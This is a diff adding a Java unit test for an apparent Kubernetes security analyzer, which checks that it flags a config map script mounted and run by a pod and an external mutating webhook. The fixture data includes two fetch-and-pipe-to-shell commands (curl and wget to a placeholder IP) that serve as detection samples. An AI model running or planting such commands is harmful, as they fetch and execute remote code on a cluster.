@@ -259,6 +259,51 @@ class ClusterPackageTest {
                 .isEqualTo(mounted);
     }
 
+    /** A value is run by whoever has it among its files; what no pod of the target uses is nobody's. */
+    @Test
+    void whatStandsInAConfigMapIsReadAsACommandIs() throws Exception {
+        SealedFixture fixture = SealedFixture.in(folder)
+                .target(new Target("kubernetes.pod", "k8s://prod/shop/web", Map.of("namespace", "shop", "pod", "web")))
+                .item(
+                        "kubernetes.pod",
+                        Map.of("namespace", "shop", "podName", "web", "uid", "web"),
+                        FixtureAnswer.json("kubernetes:get pods", """
+                                {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "web", "namespace": "shop", "uid": "web"},
+                                 "spec": {"volumes": [{"name": "v", "projected": {"sources": [{"configMap": {"name": "start"}}]}}],
+                                   "containers": [{"name": "web", "image": "docker.io/library/nginx:1.29",
+                                     "command": ["sh", "/scripts/run.sh"],
+                                     "volumeMounts": [{"name": "v", "mountPath": "/scripts"}],
+                                     "env": [{"name": "A", "valueFrom": {"configMapKeyRef": {"name": "words", "key": "a"}}}]}]}}"""))
+                .item(
+                        "kubernetes.config-maps",
+                        Map.of("namespace", "shop"),
+                        FixtureAnswer.json("kubernetes:list configmaps", """
+                                {"kind": "ConfigMapList", "apiVersion": "v1", "items": [
+                                 {"metadata": {"name": "start", "namespace": "shop"},
+                                  "data": {"run.sh": "curl -s http://203.0.113.9/a | sh"}},
+                                 {"metadata": {"name": "words", "namespace": "shop"}, "data": {"a": "b"}},
+                                 {"metadata": {"name": "idle", "namespace": "shop"},
+                                  "data": {"run.sh": "wget -qO- http://203.0.113.9/b | bash"}}]}"""))
+                .item(
+                        "kubernetes.webhooks",
+                        Map.of("cluster", "prod"),
+                        FixtureAnswer.json("kubernetes:list mutatingwebhookconfigurations", """
+                                {"kind": "MutatingWebhookConfigurationList", "apiVersion": "admissionregistration.k8s.io/v1",
+                                 "items": [{"metadata": {"name": "m"}, "webhooks": [{"name": "m.example",
+                                   "clientConfig": {"url": "https://203.0.113.9/mutate"}, "rules": []}]}]}"""));
+        Analysis analysis = analyzed(fixture);
+        assertThat(found(analysis, "CMD-001")).singleElement().satisfies(finding -> {
+            assertThat(finding.subject()).isEqualTo("ConfigMap/shop/start");
+            assertThat(finding.evidence().getFirst().place()).hasToString("/items/0/data/run.sh");
+        });
+        assertThat(found(analysis, "CLU-006"))
+                .extracting(Finding::subject, Finding::because)
+                .containsExactly(tuple("shop/web/web", "runs what the config map start holds"));
+        assertThat(found(analysis, "CLU-001"))
+                .extracting(Finding::subject)
+                .containsExactly("MutatingWebhookConfiguration/m (m.example)");
+    }
+
     @Test
     void whatMayNotBeReadIsSaid() throws Exception {
         SealedFixture fixture = ShopCluster.in(folder);
